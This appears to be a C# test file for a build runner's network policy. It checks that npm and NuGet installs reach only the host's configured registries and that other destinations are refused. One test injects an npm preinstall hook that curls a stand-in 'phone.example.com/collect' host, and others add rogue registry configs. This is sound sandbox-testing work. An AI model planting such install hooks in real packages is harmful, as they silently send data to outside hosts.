using System.Text.Json;
using Noa.Abstractions;

namespace Noa.Stages.Runner.Tests;

/// <summary>
/// Install steps reach the package registries this host is configured for, and nothing else: a real npm install from a lockfile
/// and a real NuGet restore go through the capsule's policy agent; a script of the same install that phones home, a repository's
/// own npmrc or NuGet.Config naming another host, and an IP-literal registry are refused, and runner.json names the host.
/// Needs this host to be configured for npm's and NuGet's registries and to reach them.
/// </summary>
public sealed class RegistryEgressTests : IAsyncLifetime
{
    private RunnerPipeline _pipeline = null!;

    // A real package from the registry, pinned by its integrity; no resolved URL, so the lockfile names no host (npm fetches it
    // from the registry it is configured for).
    private const string PackageJson = """{ "name": "egressdemo", "version": "1.0.0", "dependencies": { "is-number": "7.0.0" }, "scripts": { "test": "node -e \"if (!require('is-number')(7)) process.exit(1); console.log('is-number works')\"" } }""";
    private const string Lockfile = """
        {
          "name": "egressdemo", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
          "packages": {
            "": { "name": "egressdemo", "version": "1.0.0", "dependencies": { "is-number": "7.0.0" } },
            "node_modules/is-number": {
              "version": "7.0.0",
              "integrity": "sha512-41Cifkg6e8TylSpdtTpeLVMqvSBEVzTttHvERD741+pnZ8ANv0004MRL43QKPDlK9cGvNp6NZWZUBlbGXYxxng==",
              "license": "MIT", "engines": { "node": ">=0.12.0" }
            }
          }
        }
        """;

    public ValueTask InitializeAsync()
    {
        _pipeline = new RunnerPipeline();
        return ValueTask.CompletedTask;
    }

    public ValueTask DisposeAsync() => _pipeline.DisposeAsync();

    private static PackageRegistry Registry(string ecosystem)
    {
        var found = PackageRegistries.FromHost().FirstOrDefault(r => r.Ecosystem == ecosystem);
        if (found is null)
            Requirement.Unmet($"this host's configuration names no {ecosystem} registry (npm config / ~/.nuget/NuGet/NuGet.Config)");
        return found!;
    }

    private static JsonElement Step(JsonElement report, string phase) =>
        report.GetProperty("steps").EnumerateArray().First(s => s.GetProperty("phase").GetString() == phase);

    private static List<(string Destination, bool Allowed)> Egress(JsonElement step) =>
        step.TryGetProperty("egress", out var e) ? [.. e.EnumerateArray().Select(x => (x.GetProperty("destination").GetString()!, x.GetProperty("allowed").GetBoolean()))] : [];

    [Fact]
    public async Task NpmInstall_FromTheLockfile_ReachesTheRegistry_AndTheTestUsesThePackage()
    {
        var npm = Registry("npm");
        var folder = _pipeline.Folder(("package.json", PackageJson), ("package-lock.json", Lockfile));

        var (_, report, _) = await _pipeline.RunAsync(folder);

        var install = Step(report, "install");
        Assert.Equal("passed", install.GetProperty("status").GetString());
        Assert.Equal("registries", install.GetProperty("policy").GetString());
        Assert.Contains((npm.Destination, true), Egress(install));
        Assert.DoesNotContain(Egress(install), e => !e.Allowed);
        var test = Step(report, "test");
        Assert.Equal("passed", test.GetProperty("status").GetString());
        Assert.Equal("none", test.GetProperty("policy").GetString());
        Assert.Contains("is-number works", test.GetProperty("output").GetString());
        Assert.Contains(report.GetProperty("environment").GetProperty("registries").EnumerateArray(), r => r.GetProperty("destination").GetString() == npm.Destination);
    }

    [Theory]
    // A preinstall script that phones home through the proxy every tool honours.
    [InlineData("preinstall", "phone.example.com:443")]
    // The repository's own npmrc points the install at another registry: the allowlist stays the host's.
    [InlineData("npmrc", "npm.example.com:443")]
    // An IP-literal registry in the repository's npmrc (a private address would need the host's own rule naming it).
    [InlineData("ip-literal", "203.0.113.7:4873")]
    public async Task NpmInstall_ThatCallsAnotherHost_IsRefused_AndRunnerJsonNamesTheHost(string attack, string host)
    {
        Registry("npm");
        var json = attack == "preinstall"
            ? PackageJson.Replace("\"scripts\": {", "\"scripts\": { \"preinstall\": \"curl -sS --max-time 20 https://phone.example.com/collect\",", StringComparison.Ordinal)
            : PackageJson;
        var files = new List<(string, string)> { ("package.json", json), ("package-lock.json", Lockfile) };
        if (attack == "npmrc")
            files.Add((".npmrc", "registry=https://npm.example.com/\n"));
        if (attack == "ip-literal")
            files.Add((".npmrc", "registry=http://203.0.113.7:4873/\nfetch-retries=0\n"));
        var folder = _pipeline.Folder([.. files]);

        var (_, report, artifacts) = await _pipeline.RunAsync(folder);

        var install = Step(report, "install");
        Assert.Equal("failed", install.GetProperty("status").GetString());
        Assert.Contains((host, false), Egress(install));
        Assert.Contains($"refused {host}", install.GetProperty("reason").GetString());
        Assert.Contains(host, artifacts.Text("demo.md"));
    }

    private const string Project = """
        <Project Sdk="Microsoft.NET.Sdk">
          <PropertyGroup><TargetFramework>net10.0</TargetFramework><OutputType>Library</OutputType></PropertyGroup>
          <ItemGroup><PackageReference Include="Microsoft.Extensions.Primitives" Version="8.0.0" /></ItemGroup>
        </Project>
        """;

    private const string Code = "namespace Demo;\npublic static class Token\n{\n    public static Microsoft.Extensions.Primitives.StringValues Of(string s) => new(s);\n}\n";

    [Fact]
    public async Task DotnetRestore_ReachesNuGet_AndTheBuildAfterRunsWithoutNetwork()
    {
        var nuget = Registry("nuget");
        var folder = _pipeline.Folder(("Demo.csproj", Project), ("Token.cs", Code));

        // A first build of a .NET project takes minutes on a loaded machine: the step's limit is not what this test is about.
        var (_, report, _) = await _pipeline.RunAsync(folder, o => (o.StepSeconds, o.TotalSeconds) = (600, 1200));

        var install = Step(report, "install");
        Assert.Equal("dotnet restore", install.GetProperty("command").GetString());
        Assert.True(install.GetProperty("status").GetString() == "passed", install.GetProperty("output").GetString());
        Assert.Contains((nuget.Destination, true), Egress(install));
        var build = Step(report, "build");
        Assert.True(build.GetProperty("status").GetString() == "passed", build.GetProperty("output").GetString());
        Assert.Equal("none", build.GetProperty("policy").GetString());
    }

    [Fact]
    public async Task DotnetRestore_WithTheRepositorysOwnNuGetConfigNamingAnotherHost_IsRefused()
    {
        Registry("nuget");
        const string config = """
            <?xml version="1.0" encoding="utf-8"?>
            <configuration><packageSources><clear /><add key="elsewhere" value="https://nuget.example.com/v3/index.json" /></packageSources></configuration>
            """;
        var folder = _pipeline.Folder(("Demo.csproj", Project), ("Token.cs", Code), ("NuGet.Config", config));

        var (_, report, _) = await _pipeline.RunAsync(folder, o => o.StepSeconds = 240);

        var install = Step(report, "install");
        Assert.Equal("failed", install.GetProperty("status").GetString());
        Assert.Contains(("nuget.example.com:443", false), Egress(install));
    }
}
